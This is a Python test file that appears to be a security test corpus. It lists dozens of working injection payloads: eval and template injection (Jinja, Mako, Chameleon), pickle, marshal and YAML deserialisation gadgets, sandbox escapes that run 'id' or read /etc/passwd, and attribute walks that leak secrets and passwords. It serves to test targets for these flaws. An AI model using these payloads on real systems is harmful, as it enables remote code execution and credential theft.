"""Attacks on interpreters, deserialisers and templates."""

import base64
import json
import marshal
import pickle
import subprocess

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.third import http

NEEDS = ("aws-http",)
ID = "uid="
SECRET = "code-secret-28"
RUN = "__import__('os').popen('id').read()"


class _Call:
    """Calls a function when it is read."""

    def __init__(self, function: object, *values: object) -> None:
        self._made = (function, values)

    def __reduce__(self) -> object:
        return self._made


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _pickled(function: object, *values: object, protocol: int = 4) -> bytes:
    return pickle.dumps(_Call(function, *values), protocol=protocol)


def _array() -> bytes:
    # The header of a numpy file whose data are a pickle.
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (118 - len(head) - 1) + b"\n"
    return (
        b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + _pickled(subprocess.getoutput, "id")
    )


SOURCE = "import os\nprint(os.popen('id').read())\nVALUE = os.popen('id').read()\n"
ATTACKS = [
    Attack("Python code", "calculator", http("GET", "/c", query={"expr": RUN}), ID),
    Attack(
        "Python code",
        "calculator",
        http("GET", "/c", query={"expr": "open('/etc/passwd').read()"}),
        "root:x:0",
    ),
    Attack("Python code", "calculator", http("GET", "/c", query={"expr": "SECRET"}), SECRET),
    Attack(
        "Python code",
        "no_builtins",
        {
            "expr": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['popen']('id').read()"
        },
        ID,
    ),
    Attack(
        "Python code",
        "feature_flag",
        {"field": "name", "value": "x' or user._password == 'hunter-2-blue"},
        '"on"',
    ),
    Attack(
        "Python code",
        "feature_flag",
        {"field": "__init__.__defaults__[0][0] == 'h' or ''", "value": "x"},
        '"on"',
    ),
    Attack("Python code", "rules", {"rule": f"1\nimport os\nresult = {RUN}"}, ID),
    Attack("Python code", "rules", {"rule": "SECRET"}, SECRET),
    Attack("Python code", "compiled", {"formula": f"[{RUN} for _ in '1'][0]"}, ID),
    Attack("Python code", "function_made", {"body": RUN}, ID),
    Attack("Python code", "lambda_key", {"key": "(v, " + RUN + ")"}, ID),
    Attack("Python code", "f_string", {"name": "{__import__('os').popen('id').read()}"}, ID),
    Attack("Python code", "interpreter", {"line": "import os; print(os.popen('id').read())"}, ID),
    Attack("Python code", "timed", {"statement": "import os; print(os.popen('id').read())"}, ID),
    Attack("Python code", "hints", {"annotation": "typing.Literal[__import__('os').popen('id').read()]"}, ID),
    Attack("Python code", "model", {"type": "typing.Literal[__import__('os').popen('id').read()]"}, ID),
    Attack("Python code", "signature", {"annotation": RUN}, ID),
    Attack("Python code", "made_class", {"default": RUN}, ID),
    Attack("Python code", "sub_callback", {"text": "Hi {{" + RUN + "}}"}, ID),
    Attack("Python code", "upload_module", {"source": SOURCE}, ID),
    Attack("Python code", "upload_import", {"source": SOURCE}, ID),
    Attack("Python code", "upload_run", {"source": SOURCE}, ID),
    Attack("Python code", "frame_query", {"query": "a <= @os.popen('id').read().count('uid=')"}, "0  1"),
    Attack("Python code", "frame_eval", {"expr": "b = @os.popen('id').read()"}, ID),
    Attack("pickle", "pickled", {"state": _b64(_pickled(subprocess.getoutput, "id"))}, ID),
    Attack("pickle", "pickled", {"state": _b64(b"csubprocess\ngetoutput\n(S'id'\ntR.")}, ID),
    Attack(
        "pickle", "pickled", {"state": _b64(_pickled(eval, "__import__('app').SECRET", protocol=2))}, SECRET
    ),
    Attack("pickle", "pickled_hex", {"cookie": _pickled(subprocess.check_output, "id").hex()}, ID),
    Attack("pickle", "numpy_file", {"array": _b64(_array())}, ID),
    Attack("pickle", "frame_pickle", {"frame": _b64(_pickled(subprocess.getoutput, "id"))}, ID),
    Attack("pickle", "shelf", {"value": _b64(_pickled(subprocess.getoutput, "id", protocol=0))}, ID),
    Attack(
        "pickle",
        "marshalled",
        {"code": _b64(marshal.dumps(compile("__import__('os').popen('id').read()", "x", "eval")))},
        ID,
    ),
    Attack("YAML", "yaml_unsafe", {"body": "!!python/object/apply:subprocess.getoutput ['id']"}, ID),
    Attack("YAML", "yaml_unsafe", {"body": "a: !!python/object/new:subprocess.check_output [[id]]"}, ID),
    Attack(
        "YAML",
        "yaml_full",
        {"body": "--- 1\n--- !!python/object/apply:eval [\"__import__('os').popen('id').read()\"]"},
        ID,
    ),
    Attack(
        "import",
        "logging_config",
        {
            "body": json.dumps(
                {
                    "version": 1,
                    "handlers": {"h": {"()": "subprocess.getoutput", "cmd": "id > /tmp/logged"}},
                    "root": {"handlers": []},
                }
            )
        },
        ID,
    ),
    Attack(
        "import", "module_function", {"module": "subprocess", "function": "getoutput", "args": ["id"]}, ID
    ),
    Attack("import", "module_function", {"module": "os", "function": "getenv", "args": ["PATH"]}, "/usr/bin"),
    Attack("import", "dunder_import", {"format": "subprocess", "data": "id"}, ID),
    Attack("import", "located", {"type": "subprocess.getoutput", "value": "id"}, ID),
    Attack("names", "dotted", {"path": "__init__.__globals__"}, SECRET),
    Attack("names", "walked", {"path": "__class__.__init__.__globals__.SECRET"}, SECRET),
    Attack("names", "global_name", {"handler": "SECRET"}, SECRET),
    Attack(
        "names",
        "polluted",
        {"profile": {"__class__": {"__init__": {"__globals__": {"SECRET": "changed-by-me"}}}}},
        "changed-by-me",
    ),
    Attack("template", "jinja", {"name": "{{ config.SECRET }}"}, SECRET),
    Attack("template", "jinja", {"name": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}, ID),
    Attack(
        "template",
        "jinja",
        {
            "name": "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == '_wrap_close' %}{{ c.__init__.__globals__['popen']('id').read() }}{% endif %}{% endfor %}"
        },
        ID,
    ),
    Attack(
        "template",
        "jinja_environment",
        http("POST", "/t", {"template": "{{ user._password }}"}),
        "hunter-2-blue",
    ),
    Attack(
        "template",
        "jinja_environment",
        http("POST", "/t", {"template": "{{ lipsum.__globals__['os'].popen('id').read() }}"}),
        ID,
    ),
    Attack("template", "jinja_compile", {"expr": "user.__init__.__globals__.SECRET"}, SECRET),
    Attack("template", "mako_text", {"title": "${__import__('os').popen('id').read()}"}, ID),
    Attack("template", "mako_text", {"title": "<% import os; context.write(os.popen('id').read()) %>"}, ID),
    Attack("template", "chameleon_text", {"note": "${python:__import__('os').popen('id').read()}"}, ID),
    Attack("str.format", "formatted", {"template": "Hi {user._password}"}, "hunter-2-blue"),
    Attack("str.format", "formatted", {"template": "{user.__init__.__globals__[SECRET]}"}, SECRET),
    Attack(
        "str.format", "formatted_map", {"name": "{user.__class__.__init__.__defaults__}"}, "hunter-2-blue"
    ),
    Attack("str.format", "interpolated", {"name": "${db:password}"}, SECRET),
    Attack(
        "template, second order",
        "show_template",
        {},
        ID,
        before=[("store_template", {"page": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"})],
    ),
]
